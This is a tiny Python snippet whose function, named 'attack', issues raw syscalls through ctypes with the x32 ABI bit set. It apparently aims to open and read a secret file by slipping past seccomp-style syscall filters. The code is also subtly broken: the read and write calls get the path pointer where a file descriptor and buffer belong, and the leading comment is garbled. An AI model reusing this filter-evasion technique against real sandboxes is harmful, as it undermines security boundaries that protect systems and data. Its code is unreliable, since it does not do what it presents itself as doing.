# Calls by the numbers of other machines: 32 bits, x32.
import ctypes


def attack(secret_path):
    libc = ctypes.CDLL(None, use_errno=True)
    return [libc.syscall(k | 0x40000000, secret_path.encode(), 0) for k in (2, 0, 1)]
